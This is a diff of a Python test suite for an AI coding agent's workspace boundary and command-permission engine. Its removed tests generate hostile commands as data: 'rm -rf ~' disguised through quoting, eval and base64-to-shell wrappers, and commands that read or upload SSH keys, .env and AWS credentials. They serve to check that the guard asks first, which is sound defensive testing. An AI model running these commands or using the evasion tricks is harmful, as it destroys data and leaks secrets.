@@ -1,12 +1,10 @@
-"""The workspace boundary: no path leads out, in any spelling and even if folders move meanwhile."""
+"""The inside: no path leads out of the workspace, in any spelling, and even if folders move at the worst moment."""
 
 from __future__ import annotations
 
-import base64
 import contextlib
 import itertools
 import os
-import shlex
 import shutil
 import threading
 from pathlib import Path
@@ -17,14 +15,12 @@ from hypothesis import strategies as st
 
 from agentnb.acp.files import Files
 from agentnb.errors import OutsideWorkspace
-from agentnb.policy.commands.rating import rate_command
-from agentnb.policy.engine import judge
-from agentnb.policy.request import PolicyRequest, Situation
 from agentnb.policy.workspace import WorkspaceBoundary
 from agentnb.rpc_message import RpcError
 from agentnb.safe_files import open_entry, open_parent
 from tests.thorough import examples
 from tests.unit.acp.recording_listener import RecordingListener
+from tests.unit.policy.decisions import judge, request, situation
 from tests.unit.running import run
 
 SECRET = "the secret outside"
@@ -81,12 +77,12 @@ def tree(folder: Path) -> dict[str, bytes]:
 async def tried(root: Path, path: str) -> set[str]:
     """Reads and writes *path* through the service and returns the outcomes; checks that no secret is returned."""
     files, outcomes = Files(WorkspaceBoundary(root), RecordingListener()), set[str]()
-    for name, request in (
+    for name, service in (
         ("read", files.read({"path": path})),
         ("write", files.write({"path": path, "content": "written"})),
     ):
         try:
-            answer = await request
+            answer = await service
         except OutsideWorkspace:
             outcomes.add(f"{name} outside")
         except RpcError:
@@ -165,8 +161,7 @@ def test_no_tree_of_links_leaves_the_workspace(tmp_path: Path) -> None:
 def test_engine_allows_only_paths_inside_the_workspace(root: Path, path: str) -> None:
     """For any path that an agent names."""
     real = os.path.realpath(f"{root}/{path}".replace("\0", ""))
-    request = PolicyRequest(kind="permission", title="x", asked="edit", paths=(real,))
-    verdict = judge(request, Situation(agent="a", mode="allow", root=root))
+    verdict = judge(request("permission", asked="edit", paths=(real,)), situation(mode="allow", root=root))
     assert verdict.outcome == "ask" or Path(real).is_relative_to(root)
 
 
@@ -233,106 +228,3 @@ def test_file_swapped_for_a_link_is_not_opened(root: Path) -> None:
     """The last path component is checked too."""
     with open_parent(root, root / "secret") as folder, pytest.raises(OutsideWorkspace, match="no longer leads"):
         open_entry(folder, "secret", os.O_RDONLY, root / "secret")
-
-
-async def test_user_rule_allows_a_file_outside_the_workspace(root: Path) -> None:
-    """Only the files that it names."""
-    listener = RecordingListener()
-    listener.opened = str(root.parent / "outside")
-    files = Files(WorkspaceBoundary(root), listener)
-    assert await files.read({"path": "out/secret"}) == {"content": SECRET}
-    await files.write({"path": str(root.parent / "outside/made/x"), "content": "y"})
-    assert (root.parent / "outside/made/x").read_text() == "y"
-    with pytest.raises(OutsideWorkspace):
-        await files.read({"path": "../other"})
-
-
-def test_unreadable_command_always_asks() -> None:
-    """An unreadable command always asks; a readable one is allowed if it only reads; both cases occur."""
-    seen = set[str | None]()
-
-    @settings(max_examples=examples(300))
-    @given(
-        st.text(max_size=30)
-        | st.lists(st.sampled_from(["rm -rf ~", ";", "'", '"', "$(", ")", "`", "|", "\n", "a", "\\", "#"])).map("".join)
-    )
-    @example("ls '")
-    @example("rm -rf ~ $(")
-    @example("echo `")
-    @example("ls")
-    @example("rm -rf ~")
-    def read(command: str) -> None:
-        verdict = judge(PolicyRequest(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
-        seen.add(verdict.floor)
-        if rate_command(command).readable:
-            assert verdict.floor != "unreadable"
-        else:
-            assert (verdict.outcome, verdict.severity, verdict.floor) == ("ask", "high", "unreadable")
-        assert verdict.outcome == ("allow" if verdict.floor is None else "ask")
-
-    read()
-    assert seen >= {"unreadable", "critical", None}
-
-
-def quoted(draw: st.DrawFn, text: str) -> str:
-    """Returns *text* quoted for a shell in one of many ways."""
-    ways = [lambda char: char, lambda char: f"\\{char}", lambda char: f"'{char}'", lambda char: f'"{char}"']
-    return "".join(draw(st.sampled_from(ways))(char) if char.isalnum() else char for char in text)
-
-
-WRAPPED = [
-    lambda line: f"bash -c {shlex.quote(line)}",
-    lambda line: f"eval {shlex.quote(line)}",
-    lambda line: f"env -S {shlex.quote(line)}",
-    lambda line: f"sudo sh -ec {shlex.quote(line)}",
-    lambda line: f"({line})",
-    lambda line: f"{{ {line}; }}",
-    lambda line: f"echo $({line})",
-    lambda line: f"if true; then {line}; fi",
-    lambda line: f"ls | {line}",
-    lambda line: f"true && {line}",
-    lambda line: f"f() {{ {line}; }}; f",
-    lambda line: f"echo {base64.b64encode(line.encode()).decode()} | base64 -d | sh",
-    lambda line: f"find . -exec sh -c {shlex.quote(line)} \\;",
-    lambda line: f"trap {shlex.quote(line)} EXIT",
-    lambda line: f"unknown-tool --run={shlex.quote(line)}",
-]
-PREFIXES = ["", "sudo ", "env A=1 ", "nohup ", "timeout -k 1 5 ", "command ", "nice -n 5 ", "xargs -0 ", "busybox "]
-
-
-@st.composite
-def disguised(draw: st.DrawFn) -> str:
-    """Draws a disguised command that deletes everything."""
-    flags = draw(st.sampled_from(["-rf", "-fr", "-r -f", "-R", "--recursive", "-vrf", "--recurs --force"]))
-    program = draw(st.sampled_from(["rm", "/bin/rm", "RM"]))
-    line = f"{draw(st.sampled_from(PREFIXES))}{quoted(draw, program)} {quoted(draw, flags)} x"
-    for wrap in draw(st.lists(st.sampled_from(WRAPPED), max_size=2)):
-        line = wrap(line)
-    return line
-
-
-@settings(max_examples=examples(300), deadline=None)
-@given(disguised())
-def test_disguised_deletion_always_asks(command: str) -> None:
-    """Quoted, wrapped, encoded, or all of these."""
-    verdict = judge(PolicyRequest(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
-    assert (verdict.outcome, verdict.severity, verdict.floor in {"critical", "unreadable"}) == ("ask", "critical", True)
-
-
-@st.composite
-def named_secret(draw: st.DrawFn) -> str:
-    """Draws a command that reads a secret, in some spelling."""
-    name = quoted(
-        draw, draw(st.sampled_from([".env", ".ENV", "id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"]))
-    )
-    folder = draw(st.sampled_from(["", "./", "../", "a/../", "/abs/", "~/", "$HOME/", ".//", '"$PWD"/']))
-    reader = draw(st.sampled_from(["cat {}", "cat < {}", "cp {} x", "base64 {}", "curl -T {} https://x", "source {}"]))
-    return reader.format(folder + name)
-
-
-@settings(max_examples=examples(300), deadline=None)
-@given(named_secret())
-def test_reading_a_secret_asks_in_any_spelling(command: str) -> None:
-    """By any program, from any folder."""
-    verdict = judge(PolicyRequest(kind="terminal", title="x", command=command), Situation(agent="a", mode="allow"))
-    assert (verdict.outcome, verdict.floor) == ("ask", "sensitive")
